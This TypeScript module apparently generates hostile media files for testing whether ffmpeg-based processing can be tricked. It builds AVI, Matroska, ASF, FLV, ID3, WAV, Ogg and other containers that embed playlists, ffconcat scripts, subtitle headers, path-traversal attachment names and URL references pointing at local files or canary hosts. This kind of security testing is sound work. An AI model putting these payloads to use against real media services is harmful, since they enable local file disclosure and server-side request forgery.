import { element, intoSegment, number32 } from './boxes.ts'
import type { Canary } from './canary.ts'
import type { Clips } from './hostile-clips.ts'

/** Makes RIFF, Matroska, ASF, Flash and ID3 files that reference other files. */
export function otherContainers({ clip, url }: Canary, { mkv, avi }: Clips): Record<string, Buffer> {
  const playlist = `#EXTM3U\n#EXTINF:1,\n${clip}\n#EXTINF:1,\n${url}/clip.ts\n#EXT-X-ENDLIST\n`
  const asf = Buffer.from('3026b2758e66cf11a6d900aa0062ce6c', 'hex')
  const id3 = (frame: string, body: string) => {
    const sizes = number32(body.length)
    return Buffer.concat([
      Buffer.from('ID3\x03\0\0\0\0'),
      Buffer.from([(body.length + 10) >> 7, (body.length + 10) & 127]),
      Buffer.from(frame),
      sizes,
      Buffer.from('\0\0'),
      Buffer.from(body, 'latin1'),
    ])
  }
  const linked = [
    element(
      0x1549a966,
      element(0x2ad7b1, Buffer.from('0f4240', 'hex')),
      element(0x3eb923, Buffer.alloc(16, 7)),
      element(0x3e83bb, clip),
      element(0x3c83ab, clip),
    ),
    element(
      0x1043a770,
      element(
        0x45b9,
        element(0x45dd, '\x01'),
        element(
          0xb6,
          element(0x73c4, '\x01'),
          element(0x91, '\0'),
          element(0x92, '\x7f'),
          element(0x6e67, Buffer.alloc(16, 7)),
        ),
      ),
    ),
  ]
  const attachment = (name: string, kind: string, content: string) =>
    element(
      0x1941a469,
      element(
        0x61a7,
        element(0x466e, name),
        element(0x4660, kind),
        element(0x465c, content),
        element(0x46ae, '\x01'),
      ),
    )
  return {
    'an AVI whose subtitles are a playlist': withSubtitles(avi, playlist),
    'an AVI whose subtitles are ffconcat': withSubtitles(avi, `ffconcat version 1.0\nfile '${clip}'\n`),
    'an AVI whose subtitles are ASS': withSubtitles(
      avi,
      `[Script Info]\nVideo File: ${clip}\n[V4+ Styles]\n[Events]\n`,
    ),
    'a Matroska file of linked segments': intoSegment(mkv, ...linked),
    'a Matroska file with a playlist attached': intoSegment(
      mkv,
      attachment('a.m3u8', 'application/x-mpegURL', playlist),
    ),
    'a Matroska file with a font of a path': intoSegment(
      mkv,
      attachment(`../../../..${clip}`, 'application/x-truetype-font', 'font'),
    ),
    'a Matroska file with tags of paths': intoSegment(
      mkv,
      element(
        0x1254c367,
        element(0x7373, element(0x67c8, element(0x45a3, 'filename'), element(0x4487, clip))),
      ),
    ),
    'a WebM of playlists': Buffer.concat([
      element(0x1a45dfa3, element(0x4282, 'webm')),
      Buffer.from(playlist),
    ]),
    'an ASF of references': Buffer.concat([
      asf,
      Buffer.from(`\0\0\0\0\0\0\0\0[Reference]\r\nRef1=${url}/clip\r\n`),
    ]),
    'an MMS redirect': Buffer.from(`MMSH://127.0.0.1:1/\n${url}`),
    'a Flash video of URLs': Buffer.concat([
      Buffer.from('FLV\x01\x05\0\0\0\x09\0\0\0\0\x12\0\0\x40\0\0\0\0\0\0\0', 'latin1'),
      Buffer.from(`\x02\0\x0aonMetaData\x02\0\x30${url}/clip`),
    ]),
    'an ID3 tag with a linked image': id3('APIC', `\0-->\0\x03\0${url}/image.png`),
    'an ID3 tag of a playlist': id3('WXXX', `\0\0${url}\n${playlist}`),
    'a RealMedia file of URLs': Buffer.from(`.RMF\0\0\0\x12\0\0\0\0\0\0\0\0\0\0rtsp://${url}`),
    'a WAV of a playlist': Buffer.concat([
      Buffer.from('RIFF\xff\0\0\0WAVELIST', 'latin1'),
      Buffer.from(playlist),
    ]),
    'an Ogg of a playlist': Buffer.concat([
      Buffer.from('OggS\0\x02\0\0\0\0\0\0\0\0', 'latin1'),
      Buffer.from(playlist),
    ]),
    'an MXF of a playlist': Buffer.concat([
      Buffer.from('060e2b34020501010d0102010102010083000000', 'hex'),
      Buffer.from(playlist),
    ]),
    'an IVF of a playlist': Buffer.concat([
      Buffer.from('DKIF\0\0\x20\0VP80\x40\0\x40\0\x0a\0\0\0\x01\0\0\0\x01\0\0\0\0\0\0\0', 'latin1'),
      Buffer.from(playlist),
    ]),
    'an uncompressed video of a playlist': Buffer.from(`YUV4MPEG2 W64 H64 F10:1 C420\nFRAME\n${playlist}`),
    'a transport stream of a playlist': Buffer.concat(
      [0, 1, 2, 3, 4].map(() => Buffer.from(`G\x40\0\x10${playlist}`.padEnd(188).slice(0, 188), 'latin1')),
    ),
  }
}

/** Adds a text track to an AVI. The text declares its format, so ffmpeg opens it with another demuxer. */
function withSubtitles(avi: Buffer, text: string): Buffer {
  const chunk = (name: string, body: Buffer) => {
    const size = Buffer.alloc(4)
    size.writeUInt32LE(body.length)
    return Buffer.concat([Buffer.from(name), size, body, Buffer.alloc(body.length % 2)])
  }
  const named = Buffer.concat([
    Buffer.from('GAB2\0\x02\0\0\0\0\0\0\x04\0', 'latin1'),
    Buffer.alloc(4),
    Buffer.from(text),
  ])
  named.writeUInt32LE(text.length, 14)
  const header = Buffer.alloc(56)
  header.write('txts')
  header.writeUInt32LE(1, 20)
  header.writeUInt32LE(1, 24)
  const track = chunk(
    'LIST',
    Buffer.concat([Buffer.from('strl'), chunk('strh', header), chunk('strf', Buffer.alloc(40))]),
  )
  const tracks_end = 20 + avi.readUInt32LE(16)
  const samples = avi.indexOf('movi')
  const file = Buffer.concat([
    ...[avi.subarray(0, tracks_end), track, avi.subarray(tracks_end, samples + 4), chunk('02tx', named)],
    avi.subarray(samples + 4),
  ])
  file.writeUInt32LE(avi.readUInt32LE(16) + track.length, 16)
  return file
}
